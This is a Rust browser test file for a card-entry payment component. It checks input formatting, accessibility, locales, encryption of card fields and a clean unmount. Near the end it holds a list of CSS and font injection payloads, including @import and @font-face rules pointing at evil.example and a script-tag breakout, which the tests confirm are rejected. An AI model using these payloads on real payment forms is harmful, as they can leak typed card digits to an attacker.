//! Browser tests of `EncryptedCard` in inline mode (headless Chromium, real DOM): typing
//! and pasting through real InputEvents, caret, brand, states and events, encryption that
//! WebCrypto decrypts, accessibility, locales, errors, and an unmount that leaves nothing.
#![cfg(target_arch = "wasm32")]

mod common;

use common::{decrypt, get, get_str, key_pair, obj};
use js_sys::{Array, JSON};
use paykka_web::card_fields::component::EncryptedCard;
use wasm_bindgen::prelude::*;
use wasm_bindgen_futures::JsFuture;
use wasm_bindgen_test::*;
use web_sys::{Element, HtmlInputElement, ShadowRoot};

wasm_bindgen_test_configure!(run_in_browser);

#[wasm_bindgen(module = "/tests/support/dom.js")]
extern "C" {
    #[wasm_bindgen(js_name = captureShadowRoots)]
    fn capture_shadow_roots() -> JsValue;
    #[wasm_bindgen(js_name = inputIn)]
    fn input_in(root: &ShadowRoot) -> HtmlInputElement;
    #[wasm_bindgen(js_name = typeText)]
    fn type_text(input: &HtmlInputElement, text: &str);
    fn paste(input: &HtmlInputElement, text: &str);
    fn backspace(input: &HtmlInputElement);
    #[wasm_bindgen(js_name = setCaret)]
    fn set_caret(input: &HtmlInputElement, start: u32, end: u32);
    #[wasm_bindgen(js_name = pressEnter)]
    fn press_enter(input: &HtmlInputElement);
    fn blur(input: &HtmlInputElement);
    fn recorder(target: &Element) -> JsValue;
    #[wasm_bindgen(js_name = recordConsole)]
    fn record_console() -> Array;
    fn stringify(value: &JsValue) -> String;
    #[wasm_bindgen(js_name = withOptions)]
    fn with_options(base: &JsValue, extra: &JsValue) -> JsValue;
    #[wasm_bindgen(js_name = nextTick)]
    fn next_tick() -> js_sys::Promise;
    #[wasm_bindgen(js_name = hideSubtle)]
    fn hide_subtle();
    #[wasm_bindgen(js_name = restoreSubtle)]
    fn restore_subtle();
}

/// What `update()` settles with (it returns a Promise).
async fn updated(
    card: &EncryptedCard,
    options: paykka_web::card_fields::component::CardUpdate,
) -> Result<JsValue, JsValue> {
    JsFuture::from(js_sys::Promise::from(JsValue::from(card.update(options)))).await
}

fn update(pairs: &[(&str, JsValue)]) -> paykka_web::card_fields::component::CardUpdate {
    obj(pairs).unchecked_into()
}

fn document() -> web_sys::Document {
    web_sys::window().unwrap().document().unwrap()
}

/// A fresh container in the page, with optional inner HTML (holders).
fn container(html: &str) -> Element {
    let el = document().create_element("div").unwrap();
    el.set_inner_html(html);
    document().body().unwrap().append_child(&el).unwrap();
    el
}

struct Mounted {
    card: EncryptedCard,
    root: Element,
    /// Shadow roots in field order (number, expiry, cvc[, holder]).
    shadows: Vec<ShadowRoot>,
    log: Array,
    private_key: JsValue,
}

impl Mounted {
    fn input(&self, index: usize) -> HtmlInputElement {
        input_in(&self.shadows[index])
    }

    fn events(&self, name: &str) -> Vec<JsValue> {
        self.log
            .iter()
            .filter(|e| get_str(e, "name") == name && get_str(e, "via") == "dom")
            .map(|e| get(&e, "detail"))
            .collect()
    }

    fn callbacks(&self, name: &str) -> usize {
        self.log
            .iter()
            .filter(|e| get_str(e, "name") == name && get_str(e, "via") == "callback")
            .count()
    }
}

async fn mount_with(html: &str, extra: JsValue) -> Result<Mounted, JsValue> {
    let (public_jwk, private_key) = key_pair(2048).await;
    let root = container(html);
    let rec = recorder(&root);
    let capture = capture_shadow_roots();
    let base = with_options(
        &get(&rec, "callbacks"),
        &obj(&[("isolation", "inline".into()), ("publicKey", public_jwk)]),
    );
    let options = with_options(&base, &extra);
    let result = EncryptedCard::mount(
        JsValue::from(root.clone()).unchecked_into(),
        options.unchecked_into(),
    )
    .await;
    let restore: js_sys::Function = get(&capture, "restore").unchecked_into();
    restore.call0(&JsValue::NULL).unwrap();
    let shadows: Array = get(&capture, "roots").unchecked_into();
    let card = result?;
    Ok(Mounted {
        card,
        root,
        shadows: shadows.iter().map(|s| s.unchecked_into()).collect(),
        log: get(&rec, "log").unchecked_into(),
        private_key,
    })
}

async fn mount() -> Mounted {
    mount_with("", JsValue::UNDEFINED).await.expect("mount")
}

fn caret(input: &HtmlInputElement) -> u32 {
    input.selection_start().unwrap().unwrap()
}

fn active_in(shadow: &ShadowRoot) -> bool {
    shadow.active_element().is_some()
}

fn next_year_yy() -> u32 {
    (js_sys::Date::new_0().get_full_year() + 1) % 100
}

#[wasm_bindgen_test]
async fn prebuilt_form_is_accessible() {
    let m = mount().await;
    assert_eq!(m.shadows.len(), 3, "number, expiry, security code");
    assert_eq!(m.events("ready").len(), 1);
    assert_eq!(m.callbacks("ready"), 1);
    let expected = [
        ("cc-number", "Card number"),
        ("cc-exp", "Expiry date"),
        ("cc-csc", "Security code"),
    ];
    for (i, (autocomplete, label)) in expected.iter().enumerate() {
        let shadow = &m.shadows[i];
        let input = m.input(i);
        assert_eq!(
            input.get_attribute("autocomplete").as_deref(),
            Some(*autocomplete)
        );
        assert_eq!(input.get_attribute("inputmode").as_deref(), Some("numeric"));
        assert_eq!(
            input.get_attribute("aria-invalid").as_deref(),
            Some("false")
        );
        let label_el = shadow
            .query_selector(&format!("label[for='{}']", input.id()))
            .unwrap()
            .unwrap();
        assert_eq!(label_el.text_content().as_deref(), Some(*label));
        let described = input.get_attribute("aria-describedby").unwrap();
        assert!(
            shadow.get_element_by_id(&described).is_some(),
            "error text linked"
        );
    }
    let icon = m.shadows[0]
        .query_selector("svg")
        .unwrap()
        .expect("brand icon");
    assert_eq!(icon.get_attribute("aria-hidden").as_deref(), Some("true"));
    let live = m
        .root
        .query_selector("[aria-live='polite']")
        .unwrap()
        .expect("live region");
    assert_eq!(
        m.root.query_selector_all("[aria-live]").unwrap().length(),
        1,
        "one live region"
    );
    assert_eq!(live.text_content().unwrap_or_default(), "");
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn accessibility_in_both_locales() {
    let cases = [
        (
            "en-US",
            [
                "Card number",
                "Expiry date",
                "Security code",
                "Name on card",
            ],
            "Enter the card number.",
        ),
        (
            "zh-CN",
            ["卡号", "有效期", "安全码", "持卡人姓名"],
            "请输入卡号。",
        ),
    ];
    for (locale, labels, required) in cases {
        let extra = obj(&[("locale", locale.into()), ("holderName", "optional".into())]);
        let m = mount_with("", extra).await.unwrap();
        for (i, label) in labels.iter().enumerate() {
            let input = m.input(i);
            let shadow = &m.shadows[i];
            let label_el = shadow
                .query_selector(&format!("label[for='{}']", input.id()))
                .unwrap()
                .unwrap();
            assert_eq!(label_el.text_content().as_deref(), Some(*label), "{locale}");
            assert_eq!(input.tag_name(), "INPUT", "a native, keyboard-usable input");
            assert!(input.tab_index() >= 0);
        }
        assert_eq!(
            m.input(3).get_attribute("aria-required"),
            None,
            "optional name"
        );
        assert_eq!(
            m.input(0).get_attribute("aria-required").as_deref(),
            Some("true")
        );
        let live = m
            .root
            .query_selector("[aria-live='polite']")
            .unwrap()
            .unwrap();
        assert_eq!(live.get_attribute("role").as_deref(), Some("status"));
        let error = JsFuture::from(js_sys::Promise::from(JsValue::from(m.card.encrypt())))
            .await
            .unwrap_err();
        assert_eq!(get_str(&error, "code"), "VALIDATION");
        let message = m.shadows[0]
            .query_selector(".paykka-error")
            .unwrap()
            .unwrap();
        assert_eq!(
            message.text_content().as_deref(),
            Some(required),
            "{locale}"
        );
        assert!(
            !live.text_content().unwrap_or_default().is_empty(),
            "announced"
        );
        m.card.unmount();
    }
}

#[wasm_bindgen_test]
async fn typing_formats_keeps_the_caret_and_reports_brand_and_state() {
    let m = mount().await;
    let number = m.input(0);
    type_text(&number, "4242424");
    assert_eq!(number.value(), "4242 424");
    assert_eq!(caret(&number), 8);
    // Backspace right after a space removes the digit before it.
    set_caret(&number, 5, 5);
    backspace(&number);
    assert_eq!(number.value(), "4244 24");
    assert_eq!(caret(&number), 3);
    // Paste in the middle.
    set_caret(&number, 3, 3);
    paste(&number, "2-42 42");
    assert_eq!(number.value(), "4242 4242 424");
    assert_eq!(caret(&number), 9);
    // Letters are refused and the input stays.
    paste(&number, "abc");
    assert_eq!(number.value(), "4242 4242 424");
    assert!(!m.events("brand").is_empty());
    assert_eq!(get_str(m.events("brand").last().unwrap(), "brand"), "visa");
    let bin = m.events("binValue");
    assert_eq!(get_str(bin.last().unwrap(), "bin"), "424242");
    let change = m.events("change");
    let last = change.last().unwrap();
    let fields = get(last, "fields");
    assert_eq!(
        get_str(&get(&fields, "cardNumber"), "state"),
        "potentiallyValid"
    );
    assert_eq!(get_str(&get(&fields, "securityCode"), "state"), "empty");
    assert_eq!(get(&get(&fields, "cardNumber"), "focused"), JsValue::TRUE);
    // No error while the value can still become valid; on blur it shows.
    assert_eq!(
        number.get_attribute("aria-invalid").as_deref(),
        Some("false")
    );
    blur(&number);
    assert_eq!(
        number.get_attribute("aria-invalid").as_deref(),
        Some("true")
    );
    let live = m.root.query_selector("[aria-live]").unwrap().unwrap();
    assert_eq!(
        live.text_content().as_deref(),
        Some("Enter the complete card number.")
    );
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn a_full_card_advances_focus_and_encrypts_to_the_typed_values() {
    let m = mount().await;
    let yy = next_year_yy();
    type_text(&m.input(0), "5555555555554444");
    assert!(active_in(&m.shadows[1]), "focus moved to the expiry");
    type_text(&m.input(1), &format!("12{yy:02}"));
    assert_eq!(m.input(1).value(), format!("12/{yy:02}"));
    assert!(active_in(&m.shadows[2]), "focus moved to the security code");
    type_text(&m.input(2), "737");
    assert!(m.card.is_valid());
    let all_valid = m.events("allValid");
    assert_eq!(get(all_valid.last().unwrap(), "valid"), JsValue::TRUE);
    let field_valid = m.events("fieldValid");
    let number_valid = field_valid
        .iter()
        .find(|e| get_str(e, "field") == "cardNumber")
        .unwrap();
    assert_eq!(get_str(number_valid, "last4"), "4444");

    let result = JsFuture::from(js_sys::Promise::from(JsValue::from(m.card.encrypt())))
        .await
        .unwrap();
    assert_eq!(get_str(&result, "brand"), "mastercard");
    assert_eq!(get_str(&result, "last4"), "4444");
    assert_eq!(get_str(&result, "bin"), "55555555");
    assert_eq!(
        get_str(&get(&result, "browserInfo"), "terminal_type"),
        "WEB"
    );
    let payment = get(&result, "payment");
    assert_eq!(get_str(&payment, "payment_method"), "BANKCARD");
    let year = format!("20{yy:02}");
    for (slot, api, field, value) in [
        (
            "encryptedCardNumber",
            "encrypted_card_no",
            "number",
            "5555555555554444",
        ),
        (
            "encryptedExpireMonth",
            "encrypted_exp_month",
            "expiryMonth",
            "12",
        ),
        (
            "encryptedExpireYear",
            "encrypted_exp_year",
            "expiryYear",
            year.as_str(),
        ),
        ("encryptedCVV", "encrypted_cvv", "cvc", "737"),
    ] {
        let jwe = get_str(&result, slot);
        assert_eq!(get_str(&payment, api), jwe);
        let (_, payload) = decrypt(&m.private_key, &jwe).await.unwrap();
        assert_eq!(get_str(&payload, "field"), field, "field-bound");
        assert_eq!(get_str(&payload, "value"), value);
    }
    assert_eq!(m.events("encrypted").len(), 1);
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn encrypt_with_missing_fields_rejects_and_focuses_the_first() {
    let m = mount().await;
    type_text(&m.input(0), "4242424242424242");
    let error = JsFuture::from(js_sys::Promise::from(JsValue::from(m.card.encrypt())))
        .await
        .unwrap_err();
    assert_eq!(get_str(&error, "name"), "PaykkaError");
    assert_eq!(get_str(&error, "code"), "VALIDATION");
    let fields: Array = get(&error, "fields").unchecked_into();
    let fields: Vec<String> = fields.iter().filter_map(|f| f.as_string()).collect();
    assert_eq!(fields, vec!["expiryDate", "securityCode"]);
    // Each field's problem as the shopper sees it.
    let errors: Array = get(&error, "errors").unchecked_into();
    let problems: Vec<(String, String, String)> = errors
        .iter()
        .map(|p| {
            (
                get_str(&p, "field"),
                get_str(&p, "code"),
                get_str(&p, "message"),
            )
        })
        .collect();
    assert_eq!(problems.len(), 2, "{problems:?}");
    assert_eq!(problems[0].0, "expiryDate");
    assert_eq!(problems[1].0, "securityCode");
    assert!(problems.iter().all(|p| !p.1.is_empty()), "{problems:?}");
    assert_eq!(problems[0].2, "Enter the expiry date.", "the text shown");
    assert!(active_in(&m.shadows[1]), "focus on the first invalid field");
    assert_eq!(
        m.input(1).get_attribute("aria-invalid").as_deref(),
        Some("true")
    );
    assert_eq!(m.input(0).value(), "4242 4242 4242 4242", "input kept");
    let error_text = m.shadows[1]
        .query_selector(".paykka-error")
        .unwrap()
        .unwrap();
    assert_eq!(
        error_text.text_content().as_deref(),
        Some("Enter the expiry date.")
    );
    assert!(!m.events("error").is_empty());
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn enter_submits_and_a_second_card_of_the_same_brand_still_reports() {
    let m = mount().await;
    let number = m.input(0);
    type_text(&number, "4242424242424242");
    press_enter(&number);
    assert_eq!(
        get_str(m.events("submit").last().unwrap(), "field"),
        "cardNumber"
    );
    let before = m.events("fieldValid").len();
    set_caret(&number, 0, 19);
    paste(&number, "4000 0000 0000 0002");
    let valid = m.events("fieldValid");
    assert!(valid.len() > before, "fieldValid again for the new card");
    assert_eq!(get_str(valid.last().unwrap(), "last4"), "0002");
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn no_card_number_or_cvv_reaches_events_callbacks_messages_or_console() {
    let console = record_console();
    let m = mount().await;
    let yy = next_year_yy();
    let cards = [
        ("4242424242424242", "123"),
        ("5555555555554444", "321"),
        ("378282246310005", "7373"),
        ("3566002020360505", "456"),
        ("6011111111111117", "654"),
        ("36227206271667", "789"),
        ("6200000000000005", "987"),
    ];
    for (number, cvc) in cards {
        m.card.clear();
        type_text(&m.input(0), number);
        type_text(&m.input(1), &format!("12{yy:02}"));
        type_text(&m.input(2), cvc);
        let _ = JsFuture::from(js_sys::Promise::from(JsValue::from(m.card.encrypt()))).await;
    }
    let everything = format!("{} {}", stringify(&m.log), stringify(&console));
    for (number, cvc) in cards {
        assert!(!everything.contains(number), "full number {number} leaked");
        let grouped = paykka_web::card::format_number(number).unwrap();
        assert!(!everything.contains(&grouped), "formatted number leaked");
        assert!(
            !everything.contains(&format!("\"{cvc}\"")),
            "CVV {cvc} leaked"
        );
    }
    assert!(m.events("encrypted").len() >= cards.len());
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn unmount_removes_every_node_and_listener() {
    let m = mount_with("<p id='merchant'>Pay by card</p>", JsValue::UNDEFINED)
        .await
        .unwrap();
    let number = m.input(0);
    m.card.unmount();
    assert_eq!(m.root.inner_html(), "<p id=\"merchant\">Pay by card</p>");
    let count = m.log.length();
    type_text(&number, "4242");
    blur(&number);
    JsFuture::from(next_tick()).await.unwrap();
    assert_eq!(m.log.length(), count, "no event after unmount");
    // encrypt() after unmount rejects instead of hanging.
    let error = JsFuture::from(js_sys::Promise::from(JsValue::from(m.card.encrypt())))
        .await
        .unwrap_err();
    assert_eq!(get_str(&error, "code"), "UNMOUNTED");
}

#[wasm_bindgen_test]
async fn merchant_holders_split_expiry_and_holder_name() {
    let html = "<div data-paykka-field='cardNumber'></div><div data-paykka-field='expiryMonth'></div>\
                <div data-paykka-field='expiryYear'></div><div data-paykka-field='securityCode'></div>\
                <div data-paykka-field='holderName'></div>";
    let extra = obj(&[
        ("holderName", "required".into()),
        ("autoFocus", false.into()),
    ]);
    let m = mount_with(html, extra).await.unwrap();
    assert_eq!(m.shadows.len(), 5);
    assert_eq!(
        m.input(1).get_attribute("autocomplete").as_deref(),
        Some("cc-exp-month")
    );
    assert_eq!(
        m.input(4).get_attribute("autocomplete").as_deref(),
        Some("cc-name")
    );
    let holder = m
        .root
        .query_selector("[data-paykka-field='cardNumber']")
        .unwrap()
        .unwrap();
    assert!(holder.class_list().contains("paykka-field--empty"));
    type_text(&m.input(0), "4242424242424242");
    assert!(holder.class_list().contains("paykka-field--valid"));
    assert_eq!(holder.get_attribute("data-brand").as_deref(), Some("visa"));
    assert!(!active_in(&m.shadows[1]), "autoFocus: false");
    type_text(&m.input(1), "7");
    type_text(&m.input(2), &format!("20{}", next_year_yy()));
    type_text(&m.input(3), "123");
    assert!(!m.card.is_valid(), "the holder name is required");
    type_text(&m.input(4), "Ann Lee");
    assert!(m.card.is_valid());
    let result = JsFuture::from(js_sys::Promise::from(JsValue::from(m.card.encrypt())))
        .await
        .unwrap();
    assert_eq!(get_str(&result, "holderName"), "Ann Lee");
    assert_eq!(get_str(&get(&result, "payment"), "holder_name"), "Ann Lee");
    let (_, month) = decrypt(&m.private_key, &get_str(&result, "encryptedExpireMonth"))
        .await
        .unwrap();
    assert_eq!(get_str(&month, "value"), "07");
    m.card.unmount();
    assert!(!holder.class_list().contains("paykka-field"));
}

#[wasm_bindgen_test]
async fn security_code_length_follows_the_brand_and_masking() {
    let m = mount_with("", obj(&[("maskSecurityCode", true.into())]))
        .await
        .unwrap();
    assert_eq!(m.input(2).type_(), "password");
    type_text(&m.input(0), "378282246310005");
    type_text(&m.input(2), "12345");
    assert_eq!(m.input(2).value(), "1234", "Amex takes 4 digits");
    assert_eq!(
        stringify(&get(m.events("brand").last().unwrap(), "codeLengths")),
        "[4]"
    );
    m.card.clear();
    type_text(&m.input(0), "4242424242424242");
    type_text(&m.input(2), "1234");
    assert_eq!(m.input(2).value(), "123", "Visa takes 3");
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn locales_translations_and_unknown_locale() {
    let m = mount_with("", obj(&[("locale", "zh-CN".into())]))
        .await
        .unwrap();
    let label = m.shadows[0].query_selector("label").unwrap().unwrap();
    assert_eq!(label.text_content().as_deref(), Some("卡号"));
    blur(&m.input(0));
    type_text(&m.input(0), "4242");
    blur(&m.input(0));
    let error = m.shadows[0]
        .query_selector(".paykka-error")
        .unwrap()
        .unwrap();
    assert_eq!(error.text_content().as_deref(), Some("请输入完整的卡号。"));
    m.card.unmount();

    let translations = obj(&[("cardNumber.label", "Kartennummer".into())]);
    let console = record_console();
    let m = mount_with(
        "",
        obj(&[("locale", "it-IT".into()), ("translations", translations)]),
    )
    .await
    .unwrap();
    let label = m.shadows[0].query_selector("label").unwrap().unwrap();
    assert_eq!(label.text_content().as_deref(), Some("Kartennummer"));
    let expiry = m.shadows[1].query_selector("label").unwrap().unwrap();
    assert_eq!(
        expiry.text_content().as_deref(),
        Some("Expiry date"),
        "en-US fallback"
    );
    assert!(
        stringify(&console).contains("unknown locale"),
        "a warning, not an error"
    );
    m.card.unmount();

    // A locale that ships as a pack: its texts, under the merchant's overrides.
    let translations = obj(&[("cardNumber.label", "Numéro (marchand)".into())]);
    let m = mount_with(
        "",
        obj(&[("locale", "fr-FR".into()), ("translations", translations)]),
    )
    .await
    .unwrap();
    let label = m.shadows[0].query_selector("label").unwrap().unwrap();
    assert_eq!(label.text_content().as_deref(), Some("Numéro (marchand)"));
    let expiry = m.shadows[1].query_selector("label").unwrap().unwrap();
    assert_eq!(
        expiry.text_content().as_deref(),
        Some("Date d'expiration"),
        "the fr-FR pack"
    );
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn styles_apply_inside_and_disabled_updates() {
    let styles = obj(&[("base", obj(&[("color", "rgb(1, 2, 3)".into())]))]);
    let m = mount_with("", obj(&[("styles", styles)])).await.unwrap();
    let window = web_sys::window().unwrap();
    let color = window
        .get_computed_style(&m.input(0))
        .unwrap()
        .unwrap()
        .get_property_value("color")
        .unwrap();
    assert_eq!(color, "rgb(1, 2, 3)");
    updated(&m.card, update(&[("disabled", true.into())]))
        .await
        .unwrap();
    assert!(m.input(0).disabled());
    let holder = m
        .root
        .query_selector("[data-paykka-field='cardNumber']")
        .unwrap()
        .unwrap();
    assert!(holder.class_list().contains("paykka-field--disabled"));
    let bad = updated(&m.card, update(&[("holderName", "required".into())]))
        .await
        .unwrap_err();
    assert_eq!(get_str(&bad, "code"), "INVALID_OPTION");
    let bad = updated(
        &m.card,
        update(&[("brands", Array::of1(&"paypal".into()).into())]),
    )
    .await
    .unwrap_err();
    assert_eq!(get_str(&bad, "code"), "INVALID_OPTION");
    assert!(m.input(0).disabled(), "a refused update changes nothing");
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn update_changes_texts_brands_and_styles_and_keeps_the_input() {
    let m = mount().await;
    type_text(&m.input(0), "5555555555554444");
    let styles = obj(&[("base", obj(&[("color", "rgb(9, 8, 7)".into())]))]);
    let changes = update(&[
        ("locale", "zh-CN".into()),
        ("brands", Array::of1(&"visa".into()).into()),
        ("styles", styles),
        ("maskSecurityCode", true.into()),
    ]);
    updated(&m.card, changes).await.unwrap();
    let label = m.shadows[0].query_selector("label").unwrap().unwrap();
    assert_eq!(label.text_content().as_deref(), Some("卡号"));
    assert_eq!(m.input(0).value(), "5555 5555 5555 4444", "input kept");
    assert_eq!(m.input(2).type_(), "password");
    let state = get(&m.card.state().into(), "fields");
    assert_eq!(
        get_str(&get(&state, "cardNumber"), "error"),
        "UNSUPPORTED_BRAND"
    );
    let color = web_sys::window()
        .unwrap()
        .get_computed_style(&m.input(0))
        .unwrap()
        .unwrap()
        .get_property_value("color")
        .unwrap();
    assert_eq!(color, "rgb(9, 8, 7)");
    m.card.unmount();
}

async fn mount_error(html: &str, options: JsValue) -> (JsValue, Array) {
    let root = container(html);
    let rec = recorder(&root);
    let options = with_options(&get(&rec, "callbacks"), &options);
    let error = EncryptedCard::mount(
        JsValue::from(root.clone()).unchecked_into(),
        options.unchecked_into(),
    )
    .await
    .err()
    .expect("mount must fail");
    assert_eq!(
        root.query_selector_all("[aria-live], .paykka-card-form")
            .unwrap()
            .length(),
        0,
        "nothing left behind"
    );
    (error, get(&rec, "log").unchecked_into())
}

#[wasm_bindgen_test]
async fn setup_errors_are_typed() {
    let inline = |pairs: &[(&str, JsValue)]| {
        let o = obj(&[("isolation", "inline".into())]);
        with_options(&o, &obj(pairs))
    };
    let (error, log) = mount_error("", inline(&[("publicKey", "not a key".into())])).await;
    assert_eq!(get_str(&error, "code"), "KEY_INVALID");
    assert!(
        stringify(&log).contains("KEY_INVALID"),
        "onError / error event"
    );
    let (error, _) = mount_error("", inline(&[("publicKey", "10001|abcdef".into())])).await;
    assert_eq!(get_str(&error, "code"), "KEY_TOO_SHORT");
    let (error, _) = mount_error(
        "<div data-paykka-field='cardNumber'></div>",
        inline(&[("publicKey", "x".into())]),
    )
    .await;
    assert_eq!(get_str(&error, "code"), "HOLDER_MISSING");
    let (public_jwk, _) = key_pair(2048).await;
    let (error, _) = mount_error(
        "",
        inline(&[("publicKey", public_jwk.clone()), ("colour", "red".into())]),
    )
    .await;
    assert_eq!(get_str(&error, "code"), "INVALID_OPTION");
    let (error, _) = mount_error(
        "",
        inline(&[
            ("publicKey", public_jwk.clone()),
            ("brands", Array::of1(&"paypal".into()).into()),
        ]),
    )
    .await;
    assert_eq!(get_str(&error, "code"), "INVALID_OPTION");
    let styles = obj(&[(
        "base",
        obj(&[("backgroundImage", "url(https://evil)".into())]),
    )]);
    let (error, _) = mount_error(
        "",
        inline(&[("publicKey", public_jwk.clone()), ("styles", styles)]),
    )
    .await;
    assert_eq!(get_str(&error, "code"), "INVALID_OPTION");
    // Frames need the secure origin: a bare public key is refused.
    let (error, _) = mount_error("", obj(&[("publicKey", public_jwk)])).await;
    assert_eq!(get_str(&error, "code"), "INVALID_OPTION");
    let missing = EncryptedCard::mount(
        JsValue::from("#no-such-element").unchecked_into(),
        obj(&[]).unchecked_into(),
    )
    .await
    .err()
    .unwrap();
    assert!(["INVALID_OPTION", "HOLDER_MISSING"].contains(&get_str(&missing, "code").as_str()));
    let _ = JSON::stringify(&missing);
}

/// Style and font options that try to become CSS, load something, or read typed glyphs:
/// each is refused at mount and at `update()` with `INVALID_OPTION` naming its path.
const INJECTIONS: &str = r#"[
  ["styles.base.color", {"styles": {"base": {"color": "red;} input{color:blue"}}}],
  ["styles.base.color", {"styles": {"base": {"color": "red\"}"}}}],
  ["styles.base.fontFamily", {"styles": {"base": {"fontFamily": "\"x\"; } @import url(//evil.example/x.css)"}}}],
  ["styles.base.color", {"styles": {"base": {"color": "\\72 ed"}}}],
  ["styles.base.color", {"styles": {"base": {"color": "</style><script>alert(1)</script>"}}}],
  ["styles.base.backgroundColor", {"styles": {"base": {"backgroundColor": "url(https://evil.example/x)"}}}],
  ["styles.focus.boxShadow", {"styles": {"focus": {"boxShadow": "0 0 image-set(\"https://evil.example/x\" 1x)"}}}],
  ["styles.base.color", {"styles": {"base": {"color": "var(--leak)"}}}],
  ["styles.base.fontWeight", {"styles": {"base": {"fontWeight": "@import 'x'"}}}],
  ["styles.base.color", {"styles": {"base": {"color": "LONG"}}}],
  ["styles.base.backgroundImage", {"styles": {"base": {"backgroundImage": "none"}}}],
  ["styles.valid?has?x?", {"styles": {"valid:has(x)": {"color": "red"}}}],
  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "https://evil.example/f\");}@font-face{font-family:Leak;src:url(https://evil.example/3);unicode-range:U+33"}]}],
  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "https://evil.example/f;{}:@"}]}],
  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "//evil.example/f.woff2"}]}],
  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "data:font/woff2;base64,AAAA"}]}],
  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "http://evil.example/f.woff2"}]}],
  ["fonts[0].weight", {"fonts": [{"family": "Leak", "src": "https://evil.example/f", "weight": "400\";unicode-range:U+30"}]}],
  ["fonts[0].unicodeRange", {"fonts": [{"family": "Leak", "src": "https://evil.example/f", "unicodeRange": "U+30"}]}],
  ["fonts[0].family", {"fonts": [{"family": "x\";src:url(https://evil.example/x)", "src": "https://evil.example/f"}]}],
  ["fonts", {"fonts": [{"family": "A", "src": "https://e.example/1"}, {"family": "A", "src": "https://e.example/2"}, {"family": "A", "src": "https://e.example/3"}, {"family": "A", "src": "https://e.example/4"}, {"family": "A", "src": "https://e.example/5"}]}]
]"#;

fn injection_corpus() -> Vec<(String, JsValue)> {
    let corpus = INJECTIONS.replace("LONG", &"a".repeat(5000));
    let list: Array = JSON::parse(&corpus).unwrap().unchecked_into();
    list.iter()
        .map(|entry| {
            let entry: Array = entry.unchecked_into();
            (entry.get(0).as_string().unwrap(), entry.get(1))
        })
        .collect()
}

#[wasm_bindgen_test]
async fn style_and_font_injections_are_refused_with_their_path() {
    let (public_jwk, _) = key_pair(2048).await;
    for (path, options) in injection_corpus() {
        let options = with_options(
            &obj(&[
                ("isolation", "inline".into()),
                ("publicKey", public_jwk.clone()),
            ]),
            &options,
        );
        let (error, _) = mount_error("", options).await;
        assert_eq!(get_str(&error, "code"), "INVALID_OPTION", "{path}");
        let message = get_str(&error, "message");
        assert!(message.starts_with(&path), "{path}: {message}");
        assert!(
            !message.contains("evil"),
            "errors do not echo values: {message}"
        );
    }
    let faces_before = document().fonts().size();
    let m = mount().await;
    for (path, options) in injection_corpus() {
        let error = updated(&m.card, options.unchecked_into())
            .await
            .unwrap_err();
        assert_eq!(get_str(&error, "code"), "INVALID_OPTION", "update: {path}");
    }
    assert_eq!(document().fonts().size(), faces_before, "no face was added");
    m.card.unmount();
}

#[wasm_bindgen_test]
async fn styles_go_through_the_cssom_and_fonts_through_font_face() {
    let styles = JSON::parse(
        r#"{"base": {"color": "rgb(1, 2, 3)", "fontFamily": "'Paykka Test', monospace", "letterSpacing": "2px",
            "padding": "4px 6px", "textTransform": "uppercase", "border": "2px solid #00ff00",
            "transition": "color .2s ease-in"},
            "invalid": {"color": "hsl(0 100% 50%)"}}"#,
    )
    .unwrap();
    let fonts = JSON::parse(
        r#"[{"family": "Paykka Test", "src": "https://127.0.0.1:9/paykka-test.woff2", "weight": "400", "style": "normal"}]"#,
    )
    .unwrap();
    let faces_before = document().fonts().size();
    let m = mount_with("", obj(&[("styles", styles), ("fonts", fonts)]))
        .await
        .unwrap();
    let style = web_sys::window()
        .unwrap()
        .get_computed_style(&m.input(0))
        .unwrap()
        .unwrap();
    assert_eq!(style.get_property_value("color").unwrap(), "rgb(1, 2, 3)");
    assert_eq!(style.get_property_value("letter-spacing").unwrap(), "2px");
    assert_eq!(style.get_property_value("padding-left").unwrap(), "6px");
    assert_eq!(
        style.get_property_value("border-top-color").unwrap(),
        "rgb(0, 255, 0)"
    );
    assert_eq!(
        style.get_property_value("text-transform").unwrap(),
        "uppercase"
    );
    // One face per field view, added and loading (or failed) before anything is typed.
    let set = document().fonts();
    assert!(set.size() > faces_before, "the faces are in document.fonts");
    let statuses: Vec<String> = js_sys::try_iter(set.as_ref())
        .unwrap()
        .unwrap()
        .map(Result::unwrap)
        .filter(|f| get_str(f, "family").contains("Paykka Test"))
        .map(|f| get_str(&f, "status"))
        .collect();
    assert!(!statuses.is_empty());
    assert!(
        statuses.iter().all(|s| s != "unloaded"),
        "every face was asked for at mount: {statuses:?}"
    );
    m.card.unmount();
    assert_eq!(set.size(), faces_before, "unmount removes the faces");
}

#[wasm_bindgen_test]
async fn without_webcrypto_mount_fails_with_insecure_context() {
    let (public_jwk, _) = key_pair(2048).await;
    hide_subtle();
    let options = obj(&[
        ("isolation", "inline".into()),
        ("publicKey", public_jwk.clone()),
    ]);
    let (error, log) = mount_error("", options).await;
    let encryptor = paykka_web::helpers::encryptor::CardEncryptor::new(
        public_jwk.clone().unchecked_into(),
        JsValue::UNDEFINED.unchecked_into(),
    )
    .unwrap();
    let card = obj(&[
        ("number", "4242424242424242".into()),
        ("expiryMonth", "12".into()),
        ("expiryYear", "2040".into()),
        ("cvc", "123".into()),
    ]);
    let rejected = JsFuture::from(js_sys::Promise::from(JsValue::from(
        encryptor.encrypt(card.unchecked_into()),
    )))
    .await;
    restore_subtle();
    assert_eq!(get_str(&error, "code"), "INSECURE_CONTEXT");
    assert!(
        get_str(&error, "message").contains("https"),
        "says what to do"
    );
    assert!(stringify(&log).contains("INSECURE_CONTEXT"), "error event");
    assert_eq!(get_str(&rejected.unwrap_err(), "code"), "INSECURE_CONTEXT");
    // With WebCrypto back, the same options mount.
    let m = mount_with("", JsValue::UNDEFINED).await.unwrap();
